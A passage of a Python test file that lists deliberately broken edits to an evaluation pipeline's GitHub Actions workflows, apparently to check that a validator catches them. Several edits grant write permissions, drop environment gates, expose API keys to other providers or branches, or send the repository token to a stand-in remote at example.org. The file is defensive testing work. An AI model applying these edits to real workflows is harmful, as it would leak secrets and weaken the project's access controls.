    M("run", "generate", "accepted: ${{ needs.plan.outputs.digest }}", "accepted: ''", "any plan is paid for"),
    M("run", "rubric", "ACCEPTED: ${{ needs.plan.outputs.digest }}", "ACCEPTED: ${{ needs.plan.outputs.rubric }}", "another output says which plan is graded"),
    M("run", "score", " && needs.seal.result == 'success'", "", "answers run although nothing was sealed"),
    M("run", "score", "needs: [plan, seal]", "needs: [plan, generate, gpu]", "answers run before completions are sealed"),
    M("run", "recheck", "needs: [plan, seal, score]", "needs: [plan, score]", "the second look knows no seal"),
    M("run", "record", "gpu, seal, score", "gpu, score", "record knows no seal"),
    M("run", "record", "score, recheck, rubric]", "score, rubric]", "record knows no second look"),
    M("run", "seal", "needs: [plan, generate, gpu]", "needs: [plan, generate]", "completions are sealed before a GPU made them"),
    M("run", "seal", "contents: read", "contents: write", "the job that seals can write"),
    M("run", "seal", "    permissions:", "    environment: generate\n%s", "the job that seals can ask for keys"),
    M("run", "seal", "-s ci -- seal --plan", "-s ci -- score --job x --plan", "answers run where completions are sealed"),
    M("run", "seal", "steps.seal.outputs.sealed", "steps.seal.outputs.digest", "another output says what was sealed"),
    M("run", "record", "SEALED: ${{ needs.seal.outputs.sealed }}", "SEALED: ${{ needs.recheck.outputs.sealed }}", "a job that ran answers says what was sealed"),
    M("run", "record", ' --sealed "$SEALED" --rechecked "$RECHECKED" --out', ' --rechecked "$RECHECKED" --out', "completions are signed that a job replaced"),
    M("run", "record", ' --sealed "$SEALED" --rechecked "$RECHECKED" --bundles', ' --rechecked "$RECHECKED" --bundles', "completions are recorded that a job replaced"),
    M("run", "recheck", ' --sealed "$SEALED"', "", "completions are judged again that a job replaced"),
    M("run", "recheck", " --minutes 270", " --minutes 2700", "the second look ends without a result"),
    M("run", "record", "GENERATED: ${{ needs.generate.result }}", "GENERATED: skipped", "what was spent counts as nothing"),
    M("run", "record", "GRADED: ${{ needs.rubric.result }}", "GRADED: ${{ needs.score.result }}", "the end of other jobs says what grades cost"),
    M("run", "record", ' --generated "$GENERATED"', "", "jobs that failed count as if they had ended well"),
    M("run", "record", ' --graded "$GRADED"', " --graded success", "grades that failed count as if they had ended well"),
    M("/generate", "", ' --attempt "$GITHUB_RUN_ATTEMPT"', "", "a repeated job pays again"),
    M("run", "rubric", ' --attempt "$GITHUB_RUN_ATTEMPT"', "", "repeated grades are paid for again"),
    M("run", "rubric", '"$GITHUB_RUN_ATTEMPT"', "1", "every attempt of grades counts as the first one"),
    M("run", "rubric", "--rows rows/results", "--rows out", "repeated grades read an old ledger"),
    M("run", "rubric", "ref: results", "ref: main", "grades that are settled are paid for again"),
    M("/generate", "", '"$GITHUB_RUN_ATTEMPT"', "1", "every attempt counts as the first one"),
    M("/generate", "", "        JOB: ${{ inputs.job }}", "        GITHUB_RUN_ATTEMPT: '1'\n%s", "a variable says that it is the first attempt"),
    M("/generate", "", "ref: results", "ref: main", "money that is settled is spent again"),
    M("/generate", "", "        path: rows\n", "        path: rows\n        repository: x/y\n", "another repository says what is settled"),
    M("/generate", "", "--rows rows/results", "--rows out", "a repeated job reads an old ledger"),
    M("/generate", "", "github.run_attempt != '1'", "github.run_attempt == '1'", "a repeated job finds no rows", by_list_only=True),
    M("/generate", "", " && github.run_attempt == '1'", "", "the checkpoint of an earlier run counts as that of an attempt", by_list_only=True),
    M("run", "generate", GUARD, "${{ contains(matrix.keys, 'OPENAI_API_KEY') && secrets.OPENAI_API_KEY || '' }}", "a key is chosen by a part of its name"),
    M("run", "generate", GUARD, "${{ contains(fromJSON(needs.plan.outputs.generate), 'OPENAI_API_KEY') && secrets.OPENAI_API_KEY || '' }}", "each job gets the keys of all jobs"),
)

#: Edits of the steps of nights, and of the job that settles lost runs.
NIGHT = (
    M("care", "", "'reconcile' || 'night' }}\n", "github.run_id || 'night' }}\n", "two runs settle the same reservations"),
    M("care", "", "  group: care-", "  cancel-in-progress: true\n%s", "a night is cancelled before it is published"),
    M("care", "", '    - cron: "23 1 * * *"', '    - cron: "23 * * * *"', "providers are asked every hour", by_list_only=True),
    M("run", "", '    - cron: "53 1 * * *"', '    - cron: "53 * * * *"', "panels are drawn every hour", by_list_only=True),
    M("care", "", "options: [discover, decide, reconcile]\n", "options: [discover, decide, reconcile, all]\n", "a person can start another step", by_list_only=True),
    M("care", "", "on:\n", "on:\n  pull_request:\n", "a pull request asks providers"),
    M("care", "", "on:\n", "on:\n  issues:\n", "an issue asks providers", by_list_only=True),
    M("care", "discover", "github.ref == 'refs/heads/main' && ", "", "any branch gets the keys of providers"),
    M("care", "discover", "github.ref == 'refs/heads/main' && ", "github.ref == 'refs/heads/main' || ", "every step on any branch asks providers"),
    M("care", "discover", '["23 1 * * *", "discover"]', '["37 11 * * *", "discover"]', "no model is found by schedule", by_list_only=True),
    M("care", "discover", "    environment: generate\n", "", "keys are read outside their environment"),
    M("care", "discover", f"OPENAI_API_KEY: {KEY}", f"KEY: {KEY}", "a key has another name"),
    M("care", "discover", f"OPENAI_API_KEY: {KEY}", "OPENAI_API_KEY: ${{ secrets.RUBRIC_API_KEY }}", "a provider gets the key of the judge"),
    M("care", "discover", f"          OPENAI_API_KEY: {KEY}\n", "", "a provider is not asked", by_list_only=True),
    M("care", "discover", "contents: read", "contents: write", "the job with all keys can write"),
    M("care", "discover", "--nightly rows/nightly", "%s --base-url openai=https://example.org", "the list of models comes from elsewhere"),
    M("care", "discover", "--nightly rows/nightly", "%s --believe openai", "a list that lost its models is believed"),
    M("care", "discover", "uses: ./.github/actions/python", "%s\n        with:\n          wheels: restore", "wheels reach the job with all keys"),
    M("care", "discover", "-- night-discover --nightly rows/nightly --out out", "-- score --job x --plan plan --out out", "answers run next to keys"),
    M("run", "reserve", "github.event_name == 'schedule' || inputs.night", "inputs.only == 'night'", "no night is planned by schedule", by_list_only=True),
    M("run", "reserve", '-- plan --night --remote "$REMOTE"', "-- plan --remote \"$REMOTE\"", "the schedule plans everything"),
    M("run", "reserve", "-- plan --night --remote \"$REMOTE\" --branch results", "-- plan --night --rows rows/results", "panels are drawn before money is reserved"),
    M("care", "decide", "contents: read", "contents: write", "the job that decides can write", by_list_only=True),
    M("care", "decide", "ref: results", "ref: main", "decisions are made from another branch"),
    M("care", "decide", "github.ref == 'refs/heads/main' && ", "", "another branch decides and publishes"),
    M("care", "decide", '["37 11 * * *", "decide"]', '["23 1 * * *", "decide"]', "a day is decided before its panels are there", by_list_only=True),
    M("care", "decide", "--nightly rows/nightly", "--nightly out", "decisions are made without panels"),
    M("care", "decide", "-- night-decide --nightly rows/nightly --out out", "-- score --job x --plan plan --out out", "answers run where decisions are artifacts"),
    M("care", "publish", "needs.decide.result == 'success'", "needs.decide.result != 'x'", "any branch publishes decisions"),
    M("care", "publish", "needs: [discover, decide]", "needs: [decide]", "lists of models are published before they are read"),
    M("care", "publish", "--branch results", "--branch main", "decisions go to the code"),
    M("care", "publish", "${{ github.server_url }}/${{ github.repository }}", "https://example.org/x/y", "decisions and the token go to another remote"),
    M("care", "publish", '--repository "$REPOSITORY"', "--repository octo/bench", "issues of another repository are changed"),
    M("care", "publish", "--found artifacts", "%s --policy artifacts/policy.yml", "an artifact says who is a maintainer"),
    M("care", "publish", "-- night-publish --found artifacts", "-- night-discover --nightly artifacts", "the job that writes asks providers"),
    M("care", "publish", 'pattern: "found-*"', 'pattern: "*"', "artifacts of any name are read as records"),
    M("care", "publish", "path: artifacts", "path: rows", "an artifact replaces rows that are published"),
    M("care", "publish", "issues: write", "issues: write\n      attestations: write\n      id-token: write", "what is published without an evaluation is signed"),
    M("care", "publish", "issues: write", "issues: write\n      actions: write", "the job that publishes can start workflows"),
    M("care", "publish", "uses: ./.github/actions/python", "%s\n        with:\n          wheels: restore", "wheels reach the job that publishes"),
    M("care", "reconcile", "          REMOTE:", f"          OPENAI_API_KEY: {KEY}\n%s", "the job that settles has a key"),
    M("care", "reconcile", "${{ github.server_url }}/${{ github.repository }}", "https://example.org/x/y", "settlements and the token go to another remote"),
    M("care", "reconcile", "fetch-depth: 0", "ref: results", "the job that settles runs code of the rows"),
    M("care", "reconcile", "--workflow run.yml", "%s --ref results", "lost runs are repeated on another branch"),
    M("care", "reconcile", PYTHON, f"- uses: {DOWNLOAD}\n        with:\n          name: plan\n          path: plan\n      %s", "an artifact reaches the job that settles"),
    M("ci", "", "ci-${{ github.event_name }}-", "ci-", "a push cancels the weekly run"),
    M("ci", "check", "github.event_name != 'schedule'", "contains(fromJSON('[\"schedule\", \"workflow_dispatch\"]'), github.event_name)", "the tests of a pull request run once a week"),
    M("ci", "model-server", "run: ./noxw -s model-server", "run: ./noxw -s tests", "the tests move to a weekly job"),
)

SIGN, PUSH = "steps.rows.outputs.sign == 'true'", "!cancelled() && steps.rows.outputs.sign != ''"

#: Edits that a third review found: only the list of the file refused them.
THIRD_LOOK = (
    M("validate", "", "HEAD: ${{ github.event.pull_request.head.sha || github.event.merge_group.head_sha }}", "HEAD: ${{ github.event.pull_request.base.sha || github.event.merge_group.base_sha }}", "the base is checked instead of the pull request"),
    M("validate", "", "head: ${{ github.event.pull_request.head.sha || github.event.merge_group.head_sha }}", "head: ${{ github.event.pull_request.base.sha || github.event.merge_group.base_sha }}", "the pull request is not fetched"),
    M("/pull-request", "", "HEAD: ${{ inputs.head }}", "HEAD: ${{ inputs.base }}", "the action fetches the base twice"),
    M("validate", "", "branches: [main]", "branches: [results]", "pull requests to main are not checked"),
    M("validate", "", "  merge_group:\n", "", "a pull request is not checked again before it is merged"),
    M("run", "record", "RECHECKED: ${{ needs.recheck.outputs.rechecked }}", "RECHECKED: ${{ needs.plan.outputs.score }}", "the plan says that samples were judged again"),
    M("run", "record", "BUNDLES: ${{ steps.sign.outputs.bundle-path }}", "BUNDLES: ${{ needs.plan.outputs.score }}", "the plan says where the signatures are"),
    M("run", "record", SIGN, "always()", "rows are signed that were not made"),
    M("run", "record", PUSH, "failure()", "rows are pushed after a failure only"),
    M("/generate", "", "GEMINI_API_KEY: ${{ inputs.gemini-api-key }}", "GOOGLE_API_KEY: ${{ inputs.openai-api-key }}", "Google gets the key of OpenAI"),
    M("/generate", "", "JOB: ${{ inputs.job }}", "JOB: ${{ inputs.openai-api-key }}", "a key becomes an option of a command"),
    M("site", "build", "pages: read", "pages: read\n      id-token: write", "the job that builds pages can prove its identity"),
    M("site", "deploy", "name: github-pages", "name: generate", "the job that deploys can ask for keys"),
    M("run", "site", "pages: read", "pages: write", "an evaluation deploys pages itself"),
    M("care", "reconcile", "issues: write", "issues: write\n      pages: write", "the job that settles can deploy pages"),
    M("run", "generate", "fromJSON(needs.plan.outputs.generate)", "fromJSON(needs.plan.outputs.gpu)", "jobs for our machine run where keys are"),
    M("run", "score", "fromJSON(needs.plan.outputs.score)", "fromJSON(needs.plan.outputs.generate)", "verdicts are made for jobs that generate"),
    M("run", "gpu", "any_gpu", "any_generate", "a machine waits for jobs that the plan lacks"),
    M("run", "rubric", "--minutes 300", "--minutes 3000", "grades have no time limit"),
)

MUTATIONS = THIRD_LOOK + NIGHT + MONEY + SECOND_LOOK + REVIEWED + STARTS + SECRETS + CODE + DATA
